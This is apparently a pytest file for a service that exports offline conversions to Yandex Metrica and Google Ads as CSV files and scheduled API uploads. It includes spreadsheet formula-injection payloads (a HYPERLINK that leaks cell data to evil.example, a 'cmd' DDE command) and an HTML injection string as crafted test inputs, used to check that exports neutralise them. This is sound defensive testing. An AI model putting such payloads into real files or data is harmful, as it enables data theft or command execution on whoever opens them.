"""Offline conversions for Yandex Metrica and Google Ads: the files, in the columns the
platforms' upload forms document, and the scheduled uploads, against a local receiver that
checks each API's documented request shape (the platforms cannot be reached from here):

- Metrica: POST /management/v1/counter/{id}/offline_conversions/upload and /upload_calls,
  `Authorization: OAuth <token>`, the CSV as the multipart part `file` (yandex.com/dev/metrika,
  "Passing offline conversions", "Uploading calls");
- Google Ads: an access token from the refresh token (POST to the OAuth token endpoint), then
  POST /v26/customers/{id}:uploadClickConversions with camelCase ClickConversions and
  `partialFailure: true` (developers.google.com/google-ads/api, UploadClickConversionsRequest).
"""

from __future__ import annotations

import csv
import email.parser
import io
import re
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import orjson
import pytest
import redis
from starlette.testclient import TestClient

from service.integrations.exports import FILES, METRICA_CALL_COLUMNS, csv_file, metrica_call_rows
from service.rules.settings import Exports
from tests.conftest import BROWSER_HEADERS, Clock, one_site, site_client, start, stop, wait_for
from tests.receiver import Answer, Receiver, Request
from tests.test_visits import AD, ORIGIN, REPORT, SITE, Browser, beacon, call

# The platforms' documented columns, written out here as their docs print them.
METRICA = ["Yclid", "Target", "DateTime", "Price", "Currency"]
METRICA_CALLS = ["Yclid", "DateTime", "StaticCall", "Price", "Currency", "PhoneNumber", "TalkDuration", "CallMissed",
                 "Tag", "FirstTimeCaller", "URL"]
GOOGLE = ["Google Click ID", "Conversion Name", "Conversion Time", "Conversion Value", "Conversion Currency"]
EXPORTS = """exports:
  kinds: [qualified_call, form]
  value: 1500
  currency: RUB
"""
GCLID_AD = f"{ORIGIN}/?utm_source=google&utm_medium=cpc&gclid=Cj0KCQiA-gclid-1"


@pytest.fixture
def climate(valkey_url: str, rules_dir: Path, store: redis.Redis, clock: Clock) -> Iterator[TestClient]:
    with site_client(valkey_url, rules_dir, clock, "climate", SITE + EXPORTS) as client:
        yield client


def download(client: TestClient, name: str) -> list[list[str]]:
    response = client.get(f"/v1/exports/climate/{name}.csv", headers=REPORT)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def test_the_files_have_the_platforms_columns_and_only_what_came_from_their_clicks(climate: TestClient,
                                                                                    clock: Clock) -> None:
    yandex = Browser(climate).open(AD, ref="https://yandex.ru/")  # yclid=777
    beacon(climate, yandex["token"], "yandex-form")
    clock.advance(20)
    call(climate, yandex["phone"]["number"], clock.now)  # 90 s from a new caller: a target call
    google = Browser(climate, vid="google-visitor-000001").open(GCLID_AD)
    beacon(climate, google["token"], "google-form")
    plain = Browser(climate, vid="plain-visitor-0000001").open(f"{ORIGIN}/")
    beacon(climate, plain["token"], "plain-form")  # no click id: for neither platform

    header, *rows = download(climate, "metrica")
    assert header == METRICA
    started = int(clock.now)
    assert sorted(rows) == sorted([["777", "form", str(started - 20), "1500", "RUB"],
                                   ["777", "qualified_call", str(started), "1500", "RUB"]])
    header, *rows = download(climate, "metrica-calls")
    assert header == METRICA_CALLS
    (row,) = rows
    assert dict(zip(header, row, strict=True)) == {
        "Yclid": "777", "DateTime": str(started), "StaticCall": "0", "Price": "1500", "Currency": "RUB",
        "PhoneNumber": yandex["phone"]["number"], "TalkDuration": "90", "CallMissed": "0", "Tag": "target",
        "FirstTimeCaller": "1", "URL": "/"}
    parameters, header, *rows = download(climate, "google-ads")
    assert parameters == ["Parameters:TimeZone=+0000"] and header == GOOGLE
    assert rows == [["Cj0KCQiA-gclid-1", "form", time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(started)), "1500",
                     "RUB"]]
    assert climate.get("/v1/exports/climate/bing.csv", headers=REPORT).status_code == 404
    assert climate.get("/v1/exports/climate/metrica.csv").status_code == 401


@pytest.mark.parametrize(("kinds", "targets"), [("[call]", ["call", "call"]), ("[qualified_call]", ["qualified_call"]),
                                               ("[call, qualified_call]", ["call", "call", "qualified_call"])])
def test_calls_go_to_the_ad_platforms_as_the_reports_count_them(valkey_url: str, rules_dir: Path, store: redis.Redis,
                                                                clock: Clock, kinds: str, targets: list[str]) -> None:
    """`call` is every answered call, a target call too (a goal of all calls got only the others);
    `qualified_call` the target calls alone."""
    rules = SITE + EXPORTS.replace("[qualified_call, form]", kinds)
    with site_client(valkey_url, rules_dir, clock, "climate", rules) as climate:
        number = Browser(climate).open(AD, ref="https://yandex.ru/")["phone"]["number"]
        clock.advance(20)
        assert call(climate, number, clock.now, "first-call")["qualified"]  # 90 s from a new caller
        clock.advance(600)
        assert not call(climate, number, clock.now, "second-call")["qualified"]  # the same caller again
        assert sorted(row[1] for row in download(climate, "metrica")[1:]) == targets


def test_a_crafted_click_id_reaches_no_file_and_the_visit_keeps_its_source(climate: TestClient, clock: Clock) -> None:
    """A link with `gclid==HYPERLINK(…)` or `yclid="><img…` lands and converts: its id is dropped
    where the visit's traffic is read, the visit is still the ad's."""
    crafted = [f"{ORIGIN}/?gclid==HYPERLINK(%22http://evil.example/?%22&A1,%22click%22)",
               f"{ORIGIN}/?yclid=%22%3E%E2%80%B9img%20src=x%3E", f"{ORIGIN}/?yclid=777abc&gclid=-Cj0KCQiA"]
    sources = []
    for n, address in enumerate(crafted):
        landed = Browser(climate, vid=f"crafted-visitor-{n:06d}").open(address)
        sources.append((landed["source"]["source"], landed["source"]["medium"]))
        beacon(climate, landed["token"], f"crafted-form-{n}")
        clock.advance(20)
        call(climate, landed["phone"]["number"], clock.now, call_id=f"crafted-call-{n}")
    assert sources == [("google", "cpc"), ("yandex", "cpc"), ("google", "cpc")]
    assert download(climate, "metrica")[1:] == [] and download(climate, "metrica-calls")[1:] == []
    assert download(climate, "google-ads")[2:] == []
    calls = climate.get("/v1/calls/climate", headers=REPORT).json()["entries"]
    assert len(calls) == 3 and all(entry["visit"]["click_ids"] == {} for entry in calls)


def test_the_files_never_hold_a_cell_a_spreadsheet_would_run() -> None:
    """Visits recorded before click ids were checked may hold anything: such an id is left out,
    and no text cell of a file starts a formula (the landing page is the visitor's to choose)."""
    call = {"qualified": True, "number": "+74951500001", "talk_seconds": 90, "unique": True}
    crafted = {"yclid": '">‹img src=x>', "gclid": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
    entries = [{"kind": "call", "at": 1_795_000_000_000, "call": call,
                "visit": {"click_ids": clicks, "landing": landing}}
               for clicks, landing in [(crafted, "/"), ({"yclid": "777", "gclid": "Cj0KCQiA-1"}, "=cmd|' /C calc'!A0")]]
    exports = Exports(kinds=frozenset({"qualified_call"}), value=1500, currency="RUB")
    for name, (make, columns, first_line) in FILES.items():
        text = csv_file(columns, make(entries, exports), first_line)
        rows = list(csv.reader(io.StringIO(text.removeprefix(first_line))))[1:]
        assert len(rows) == 1 and rows[0][0] in ("777", "Cj0KCQiA-1"), name
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0]
                       if cell != "+74951500001"), rows
    assert list(csv.reader(io.StringIO(csv_file(METRICA_CALL_COLUMNS, metrica_call_rows(entries, exports)))))[1][-1] \
        == "'=cmd|' /C calc'!A0"


def test_a_file_excel_cuts_at_semicolons_holds_no_formula_the_visitor_chose() -> None:
    """Excel in a «;» locale (Russian Excel's list separator) cuts the comma file at every «;»,
    quoted or not: the landing page a visitor chose made a cell `=HYPERLINK(…)` there. The
    platform still reads the address, with an apostrophe where a cell would start a formula."""
    call = {"qualified": True, "number": "+74951500001", "talk_seconds": 90, "unique": True}
    landing = '/a;=HYPERLINK("http://evil.example","Нажми");-1'
    entries = [{"kind": "call", "at": 1_795_000_000_000, "call": call,
                "visit": {"click_ids": {"yclid": "777"}, "landing": landing}}]
    text = csv_file(METRICA_CALL_COLUMNS, metrica_call_rows(entries, Exports(kinds=frozenset({"call"}))))
    excel = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert len(excel) == 4 and not [cell for cell in excel if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["Yclid"], row["TalkDuration"], row["URL"]) == \
        ("777", "90", '/a;\'=HYPERLINK("http://evil.example","Нажми");\'-1')

# Metrica's answer to an upload it refuses, as its API answers errors.
METRICA_REFUSAL = orjson.dumps({
    "errors": [{"error_type": "invalid_parameter", "message": "Unknown goal: qualified_call"}],
    "code": 400, "message": "Unknown goal: qualified_call"})


class Platforms:
    """Yandex Metrica's and Google's APIs as their docs describe the requests; each request
    that is not so is answered 400 and kept in `wrong`."""

    def __init__(self) -> None:
        self.down = False  # both answer 500 while set
        self.refusing = False  # Metrica refuses the file, Google takes none of the clicks, while set
        self.wrong: list[str] = []
        self.receiver = Receiver(self.respond)

    def respond(self, request: Request) -> Answer:
        if self.down:
            return Answer(500, b'{"errors": [{"message": "unavailable"}]}')
        path = urlsplit(request.path).path
        try:
            if path == "/token":
                return self._token(request)
            if path.startswith("/management/"):
                answer = self._metrica(request, path)
                return Answer(400, METRICA_REFUSAL) if self.refusing else answer
            if path.startswith("/v26/"):
                answer = self._google(request, path)
                return self._none_taken(request) if self.refusing else answer
        except AssertionError as problem:
            self.wrong.append(f"{path}: {problem}")
            return Answer(400)
        self.wrong.append(f"unknown address {path}")
        return Answer(404)

    @staticmethod
    def _token(request: Request) -> Answer:
        form = parse_qs(request.body.decode())
        assert request.headers["content-type"] == "application/x-www-form-urlencoded", request.headers
        assert {key: value[0] for key, value in form.items()} == {
            "grant_type": "refresh_token", "client_id": "ads-client-id-0001", "client_secret": "ads-client-secret-1",
            "refresh_token": "ads-refresh-token-001"}, form
        return Answer(200, b'{"access_token": "ya29.test-access", "expires_in": 3599, "token_type": "Bearer"}')

    @staticmethod
    def _metrica(request: Request, path: str) -> Answer:
        assert re.fullmatch(r"/management/v1/counter/12345678/offline_conversions/upload(_calls)?", path), path
        assert request.headers["authorization"] == "OAuth metrika-oauth-token-01", request.headers
        message = email.parser.BytesParser().parsebytes(
            b"content-type: " + request.headers["content-type"].encode() + b"\r\n\r\n" + request.body)
        assert message.is_multipart()
        (part,) = message.get_payload()  # type: ignore[misc]
        assert part.get_param("name", header="content-disposition") == "file"
        header = part.get_payload(decode=True).decode().splitlines()[0].split(",")
        assert header == (METRICA_CALLS if path.endswith("_calls") else METRICA), header
        return Answer(200, orjson.dumps({"uploading": {"id": 1010, "status": "UPLOADED", "line_quantity": 1}}))

    @staticmethod
    def _google(request: Request, path: str) -> Answer:
        assert path == "/v26/customers/1234567890:uploadClickConversions", path
        assert request.headers["authorization"] == "Bearer ya29.test-access"
        assert request.headers["developer-token"] == "ads-developer-token1"
        body = orjson.loads(request.body)
        assert body["partialFailure"] is True and body["conversions"]
        for conversion in body["conversions"]:
            # exactly one click id: Google refuses a conversion with two (GBRAID_WBRAID_BOTH_SET, VALUE_MUST_BE_UNSET)
            assert set(conversion) - {"gclid", "gbraid", "wbraid"} == {
                "conversionAction", "conversionDateTime", "conversionValue", "currencyCode"}, conversion
            assert len(set(conversion) & {"gclid", "gbraid", "wbraid"}) == 1, conversion
            assert re.fullmatch(r"customers/1234567890/conversionActions/\d+", conversion["conversionAction"])
            assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d[+-]\d\d:\d\d", conversion["conversionDateTime"])
        return Answer(200, orjson.dumps({"results": [
            {name: c[name] for name in ("gclid", "gbraid", "wbraid") if name in c} for c in body["conversions"]]}))

    @staticmethod
    def _none_taken(request: Request) -> Answer:
        """Google's answer when it takes none of the clicks: a partial failure, each row's result empty."""
        conversions = orjson.loads(request.body)["conversions"]
        return Answer(200, orjson.dumps({"partialFailureError": {
            "code": 3, "message": "The click is too old for it to be imported., at conversions[0].gclid"},
            "results": [{} for _ in conversions]}))

    def uploads(self, prefix: str) -> list[Request]:
        return [request for request, answer in self.receiver.requests
                if request.path.startswith(prefix) and answer.status == 200]


def upload_service(tmp_path: Path, valkey_url: str, platforms: Platforms) -> tuple[subprocess.Popen[bytes], str]:
    """The service with both platforms' credentials, uploading every second to `platforms`."""
    rules = one_site(tmp_path, "climate", SITE + EXPORTS + """  metrica: {counter: 12345678, token: "${METRIKA_TOKEN}"}
  google_ads:
    customer: "123-456-7890"
    actions: {qualified_call: "1111", form: "2222"}
    client_id: ads-client-id-0001
    client_secret: ads-client-secret-1
    refresh_token: "${ADS_REFRESH}"
    developer_token: ads-developer-token1
""")
    local = platforms.receiver.url
    return start(tmp_path, SWAPLINE_REDIS_URL=valkey_url, SWAPLINE_RULES_DIR=str(rules),
                 SWAPLINE_TRUSTED_PROXIES="127.0.0.1/32", SWAPLINE_EXPORT_EVERY="1",
                 SWAPLINE_METRICA_API=local, SWAPLINE_GOOGLE_ADS_API=f"{local}/v26",
                 SWAPLINE_GOOGLE_OAUTH=f"{local}/token", METRIKA_TOKEN="metrika-oauth-token-01",
                 ADS_REFRESH="ads-refresh-token-001")


def send_form(http: httpx.Client, vid: str, url: str) -> None:
    """A visitor who landed on `url` sends a form."""
    shown = http.get("/v1/decide", params={"site": "climate", "url": url, "vid": vid}).json()
    body = orjson.dumps({"type": "form", "id": f"{vid}-form", "token": shown["token"]})
    assert http.post("/v1/events", content=body, headers={"origin": ORIGIN}).status_code == 202


def test_scheduled_uploads_send_each_conversion_once_and_retry_what_failed(tmp_path: Path, valkey_url: str,
                                                                           store: redis.Redis) -> None:
    platforms = Platforms()
    service, base = upload_service(tmp_path, valkey_url, platforms)
    http = httpx.Client(base_url=base, headers={**BROWSER_HEADERS, "x-forwarded-for": "46.242.0.1"}, timeout=30)

    try:
        send_form(http, "metrica-visitor-00001", AD)
        send_form(http, "google-visitor-000001", GCLID_AD)
        platforms.receiver.wait(lambda: platforms.uploads("/management/") and platforms.uploads("/v26/"))
        platforms.down = True  # both platforms fail the next round: nothing is lost
        send_form(http, "google-visitor-000002", GCLID_AD)
        platforms.receiver.wait(lambda: any(answer.status == 500 for _, answer in platforms.receiver.requests))
        platforms.down = False
        platforms.receiver.wait(lambda: len(platforms.uploads("/v26/")) == 2)
        status = http.get("/v1/exports/climate", headers={"authorization": "Bearer climate-report-token-0001"}).json()
        dashboard = http.get("/dashboard/climate/calls", headers={"authorization": "Bearer climate-report-token-0001"})
    finally:
        http.close()
        stop(service)
    assert platforms.wrong == []
    sent: list[Any] = [conversion["gclid"] for request in platforms.uploads("/v26/")
                       for conversion in orjson.loads(request.body)["conversions"]]
    assert sent == ["Cj0KCQiA-gclid-1", "Cj0KCQiA-gclid-1"]  # the first visitor's form, then the one that waited
    assert {(upload["target"], upload["status"]) for upload in status["uploads"]} >= {
        ("metrica", "sent"), ("google-ads", "sent"), ("google-ads", "failed")}
    assert status["targets"] == ["metrica", "metrica-calls", "google-ads"]
    assert "Uploads to the ad platforms" in dashboard.text and "uploading 1010: UPLOADED" in dashboard.text


def test_clicks_from_ios_go_to_google_ads_by_their_wbraid_or_gbraid_and_a_gclid_comes_first(
        tmp_path: Path, valkey_url: str, store: redis.Redis) -> None:
    """Since iOS 14 an ad click may bring a `wbraid` (web) or `gbraid` (app) and no `gclid`: the
    upload names the one the visit has, and a visit with a gclid too only its gclid (Google
    refuses a conversion naming two). The file's template has a column for gclids alone."""
    platforms = Platforms()
    service, base = upload_service(tmp_path, valkey_url, platforms)
    http = httpx.Client(base_url=base, headers={**BROWSER_HEADERS, "x-forwarded-for": "46.242.0.1"}, timeout=30)
    google = f"{ORIGIN}/?utm_source=google&utm_medium=cpc"
    try:
        send_form(http, "iphone-web-visitor-01", f"{google}&wbraid=ClkKCQiA-wbraid-1")
        send_form(http, "iphone-app-visitor-01", f"{google}&gbraid=0AAAAA-gbraid-1")
        send_form(http, "two-ids-visitor-00001", f"{google}&gbraid=0AAAAA-gbraid-2&gclid=Cj0KCQiA-gclid-3")
        platforms.receiver.wait(lambda: sum(len(orjson.loads(request.body)["conversions"])
                                            for request in platforms.uploads("/v26/")) == 3)
        file = http.get("/v1/exports/climate/google-ads.csv", headers=REPORT)
    finally:
        http.close()
        stop(service)
    assert platforms.wrong == []
    sent = sorted((name, conversion[name]) for request in platforms.uploads("/v26/")
                  for conversion in orjson.loads(request.body)["conversions"]
                  for name in ("gclid", "gbraid", "wbraid") if name in conversion)
    assert sent == [("gbraid", "0AAAAA-gbraid-1"), ("gclid", "Cj0KCQiA-gclid-3"), ("wbraid", "ClkKCQiA-wbraid-1")]
    assert [row[0] for row in list(csv.reader(io.StringIO(file.text)))[2:]] == ["Cj0KCQiA-gclid-3"]


def test_a_refused_upload_says_what_the_platform_said_and_clicks_google_refused_are_not_sent_again(
        tmp_path: Path, valkey_url: str, store: redis.Redis) -> None:
    """Metrica refuses the file: the status shows its own message (not httpx's), and the upload
    is tried again. Google takes none of the clicks: the upload is `refused`, not `sent`, and
    those clicks are not sent again."""
    platforms = Platforms()
    platforms.refusing = True
    service, base = upload_service(tmp_path, valkey_url, platforms)
    http = httpx.Client(base_url=base, headers={**BROWSER_HEADERS, "x-forwarded-for": "46.242.0.1"}, timeout=30)
    try:
        send_form(http, "metrica-visitor-00001", AD)
        send_form(http, "google-visitor-000001", GCLID_AD)
        refused = latest(http, {("metrica", "failed"), ("google-ads", "refused")})
        platforms.refusing = False
        send_form(http, "google-visitor-000002", GCLID_AD.replace("gclid-1", "gclid-2"))
        latest(http, {("metrica", "sent"), ("google-ads", "sent")})
    finally:
        http.close()
        stop(service)
    assert platforms.wrong == []
    details = {(upload["target"], upload["status"]): upload["detail"] for upload in refused}
    assert details["metrica", "failed"] == "400: invalid_parameter: Unknown goal: qualified_call"
    assert details["google-ads", "refused"] == ("0 of 1 taken; The click is too old for it to be imported., "
                                                "at conversions[0].gclid")
    sent = [conversion["gclid"] for request in platforms.uploads("/v26/")
            for conversion in orjson.loads(request.body)["conversions"]]
    assert sent == ["Cj0KCQiA-gclid-1", "Cj0KCQiA-gclid-2"]  # the refused click once, then the new one
    assert [request.body.count(b"777") for request in platforms.uploads("/management/")] == [1]  # Metrica's, again


def latest(http: httpx.Client, outcomes: set[tuple[str, str]]) -> list[dict[str, Any]]:
    """The latest uploads, once they have these (target, status)."""
    uploads: list[dict[str, Any]] = []

    def have() -> bool:
        uploads[:] = http.get("/v1/exports/climate", headers=REPORT).json()["uploads"]
        return {(upload["target"], upload["status"]) for upload in uploads} >= outcomes

    wait_for(f"uploads {outcomes}", have)
    return uploads
